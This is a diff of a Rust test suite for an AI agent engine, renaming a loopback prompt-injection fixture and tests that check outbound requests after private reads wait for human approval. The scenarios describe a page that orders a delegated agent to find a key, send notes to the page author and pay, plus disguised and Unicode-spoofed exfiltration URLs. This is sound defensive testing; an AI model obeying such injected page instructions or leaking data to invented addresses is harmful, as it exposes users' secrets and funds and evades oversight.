@@ -28,14 +28,14 @@ use crate::{
 /// A page on loopback with instructions in it, an address that accepts any query, and a directory
 /// with an ordinary file and one that holds a key.
 #[derive(Clone)]
-struct Trap {
+struct MaliciousSite {
     site: String,
     /// The queries that reached the site.
     taken: Arc<Mutex<Vec<String>>>,
     files: Arc<TempDir>,
 }
 
-impl Trap {
+impl MaliciousSite {
     async fn set() -> Self {
         let taken = Arc::new(Mutex::new(Vec::new()));
         let queries = Arc::clone(&taken);
@@ -117,7 +117,7 @@ async fn questions(world: &World) -> Vec<Question> {
 /// A lead sends the page to the built-in researcher, which obeys it: it searches for the key, reads
 /// the notes, sends them to the page's author, pays, and reports what it read; the lead then sends
 /// that on itself. The person rejects every question.
-fn chain(trap: &Trap) -> Story {
+fn injected_delegation(trap: &MaliciousSite) -> Story {
     const LEAD: &str =
         "---\nname: assistant\ntools: [send_message, fetch_url]\npeers: [researcher]\n---\nLead.";
     let (page, first, second) = (trap.page(), trap.take("s3cret"), trap.take("reported"));
@@ -152,9 +152,9 @@ fn chain(trap: &Trap) -> Story {
 /// None of the page's instructions takes effect, at any moment of a death: the key is neither
 /// listed nor read, and nothing is sent or paid.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_page_that_gives_orders_gets_nothing_out_without_a_person() {
-    let trap = Trap::set().await;
-    let story = chain(&trap);
+async fn injected_orders_on_a_page_send_and_pay_nothing_without_approval() {
+    let trap = MaliciousSite::set().await;
+    let story = injected_delegation(&trap);
     let told = story.tell(1, &[]).await;
     let [lead, researcher] = &told.transcripts[..] else { panic!("{told:#?}") };
     let outputs = |lines: &[String]| -> Vec<String> {
@@ -176,7 +176,7 @@ async fn a_page_that_gives_orders_gets_nothing_out_without_a_person() {
 /// In the built-in kinds, every call of a connected tool that may change something waits for a
 /// person, even if it takes effect only once.
 #[tokio::test]
-async fn connected_tools_that_change_something_wait_for_a_person_in_every_kind_of_the_engine() {
+async fn built_in_kinds_ask_approval_for_connected_tools_with_an_effect() {
     let mut tried = Vec::new();
     for kind in Kinds::builtin().iter() {
         if !kind.tools.as_ref().is_none_or(|tools| tools.iter().any(|tool| names_tool(tool, "bank__pay"))) {
@@ -208,8 +208,8 @@ async fn connected_tools_that_change_something_wait_for_a_person_in_every_kind_o
 
 /// The question shows where the request would go, in full and as it would be sent.
 #[tokio::test]
-async fn the_question_about_an_invented_address_shows_it_whole() {
-    let trap = Trap::set().await;
+async fn the_approval_for_an_invented_address_shows_the_whole_address() {
+    let trap = MaliciousSite::set().await;
     let url = trap.take("a b\u{202e}#x");
     let model = ScriptedModel::new([read("notes.txt"), fetch(&url), Script::text("Done.")]);
     let world = trap.world(&model, None).await;
@@ -229,8 +229,8 @@ async fn the_question_about_an_invented_address_shows_it_whole() {
 
 /// What a connected or custom tool returns is private, unless the tool declares otherwise.
 #[tokio::test]
-async fn what_any_tool_returns_is_private_unless_it_says_otherwise() {
-    let trap = Trap::set().await;
+async fn the_output_of_a_custom_tool_counts_as_private_by_default() {
+    let trap = MaliciousSite::set().await;
     let balance = Script::call("bank__balance", json!({}));
     let model = ScriptedModel::new([balance, fetch(&trap.take("s3cret")), Script::text("Done.")]);
     let world = trap.world(&model, None).await;
@@ -246,8 +246,8 @@ async fn what_any_tool_returns_is_private_unless_it_says_otherwise() {
 /// An address that a person wrote or answered, or that is on a page, is not invented, however it is
 /// written.
 #[tokio::test]
-async fn addresses_that_a_person_or_a_page_gave_need_no_leave() {
-    let trap = Trap::set().await;
+async fn an_address_from_a_person_or_a_page_needs_no_approval() {
+    let trap = MaliciousSite::set().await;
     let (said, answered) = (trap.take("said"), trap.take("answered"));
     let model = ScriptedModel::new([
         read("notes.txt"),
@@ -272,8 +272,8 @@ async fn addresses_that_a_person_or_a_page_gave_need_no_leave() {
 /// The operator writes the instructions of a kind: no agent chooses an address that they contain,
 /// even if a peer sent it on.
 #[tokio::test]
-async fn addresses_that_the_instructions_of_a_kind_name_need_no_leave() {
-    let trap = Trap::set().await;
+async fn an_address_in_a_kinds_instructions_needs_no_approval() {
+    let trap = MaliciousSite::set().await;
     let (own, told, invented) = (trap.take("own"), trap.take("told"), trap.take("invented"));
     let lead = format!("---\nname: assistant\npeers: [reader]\n---\nHave {told} read.");
     let reader = format!("---\nname: reader\npeers: []\n---\nYou are the reader. Begin with {own}.");
@@ -304,8 +304,8 @@ async fn addresses_that_the_instructions_of_a_kind_name_need_no_leave() {
 /// An address may be written so that it ends in the spelling of another one, which a page
 /// contained.
 #[tokio::test]
-async fn an_address_that_ends_in_one_that_a_page_gave_is_invented() {
-    let trap = Trap::set().await;
+async fn an_address_that_only_ends_in_a_known_one_needs_approval() {
+    let trap = MaliciousSite::set().await;
     let host = trap.site.trim_start_matches("http://").to_owned();
     let disguised = ["http:", "http:/", r"http:\\"]
         .map(|scheme| format!("{scheme}{host}/take?q=s3cret&u=://{host}/take?page=1"));
@@ -324,8 +324,8 @@ async fn an_address_that_ends_in_one_that_a_page_gave_is_invented() {
 
 /// All addresses of one turn are searched for together, and each gets its own question.
 #[tokio::test]
-async fn of_the_addresses_of_one_turn_those_are_asked_about_that_nobody_gave() {
-    let trap = Trap::set().await;
+async fn only_the_invented_addresses_of_a_turn_need_approval() {
+    let trap = MaliciousSite::set().await;
     let (given, first, second) = (trap.take("given"), trap.take("1"), trap.take("2"));
     let turn = fetch(&first)
         .and_call("fetch_url", json!({ "url": given }))
@@ -348,8 +348,8 @@ async fn of_the_addresses_of_one_turn_those_are_asked_about_that_nobody_gave() {
 
 /// An error repeats what an agent wrote; that gives no address.
 #[tokio::test]
-async fn what_an_error_repeats_is_not_given_by_it() {
-    let trap = Trap::set().await;
+async fn an_invented_address_repeated_by_an_error_still_needs_approval() {
+    let trap = MaliciousSite::set().await;
     let url = trap.take("s3cret");
     let model = ScriptedModel::new([
         read("notes.txt"),
@@ -373,7 +373,7 @@ async fn what_an_error_repeats_is_not_given_by_it() {
 }
 
 /// Waits for a question other than this one, and returns it.
-async fn asked_next(world: &World, root: &Agent, before: &Question) -> Question {
+async fn next_question(world: &World, root: &Agent, before: &Question) -> Question {
     let next = |event: &Event| match &event.body {
         EventBody::Question { question } => question.id != before.id,
         _ => false,
@@ -384,15 +384,15 @@ async fn asked_next(world: &World, root: &Agent, before: &Question) -> Question 
 
 /// A text that replaces an approval counts only for the very address that it names.
 #[tokio::test]
-async fn text_in_place_of_an_approval_gives_no_address() {
-    let trap = Trap::set().await;
+async fn an_address_in_a_text_answer_to_an_approval_still_needs_approval() {
+    let trap = MaliciousSite::set().await;
     let url = trap.take("s3cret");
     let model = ScriptedModel::new([read("notes.txt"), fetch(&url), fetch(&url), Script::text("Done.")]);
     let world = trap.world(&model, None).await;
     let root = world.ask("Go.").await;
     let first = world.question(root.id).await;
     world.client().answer(first.id, Answer::Text(format!("No! Never open {url} please."))).await.unwrap();
-    let second = asked_next(&world, &root, &first).await;
+    let second = next_question(&world, &root, &first).await;
     assert_eq!((second.about, second.status), (About::Approval, QuestionStatus::Open));
     world.client().answer(second.id, Verdict::Reject.into()).await.unwrap();
     ended(&world, &root).await;
@@ -401,8 +401,8 @@ async fn text_in_place_of_an_approval_gives_no_address() {
 
 /// An agent that answers for the user gives no address: only the user's own text does.
 #[tokio::test]
-async fn an_answer_that_another_agent_wrote_gives_no_address() {
-    let trap = Trap::set().await;
+async fn an_address_in_an_answer_from_another_agent_needs_approval() {
+    let trap = MaliciousSite::set().await;
     let url = trap.take("s3cret");
     let script = ScriptedModel::new([start("Look.")]);
     let invented = url.clone();
@@ -422,7 +422,7 @@ async fn an_answer_that_another_agent_wrote_gives_no_address() {
     script.push(Ok(reactivate(worker.id, &url)));
     script.push(Ok(Script::text("It looked.")));
     world.client().send(chat.id, "No idea.", None).await.unwrap();
-    let second = asked_next(&world, &chat, &first).await;
+    let second = next_question(&world, &chat, &first).await;
     assert_eq!((second.about, second.status), (About::Approval, QuestionStatus::Open));
     let first = world.client().question(first.id).await.unwrap();
     assert_eq!((first.answer, first.answered_by), (Some(url), Some(chat.id)));
@@ -433,9 +433,9 @@ async fn an_answer_that_another_agent_wrote_gives_no_address() {
 
 /// Nothing private was read, or the operator has disabled the question.
 #[tokio::test]
-async fn where_nothing_private_was_read_or_the_setting_is_off_nobody_is_asked() {
+async fn without_private_data_or_if_disabled_no_address_needs_approval() {
     for (approval, first) in [(None, fetch("not an address")), (Some("never"), read("notes.txt"))] {
-        let trap = Trap::set().await;
+        let trap = MaliciousSite::set().await;
         let model = ScriptedModel::new([first, fetch(&trap.take("x")), Script::text("Done.")]);
         let world = trap.world(&model, approval).await;
         let root = world.ask("Go.").await;
@@ -447,8 +447,8 @@ async fn where_nothing_private_was_read_or_the_setting_is_off_nobody_is_asked() 
 
 /// A standing approval covers one host.
 #[tokio::test]
-async fn a_grant_for_invented_addresses_holds_for_their_host_alone() {
-    let trap = Trap::set().await;
+async fn a_grant_for_invented_addresses_covers_one_host() {
+    let trap = MaliciousSite::set().await;
     let elsewhere = trap.take("3").replace("127.0.0.1", "localhost");
     let model = ScriptedModel::new([
         read("notes.txt"),
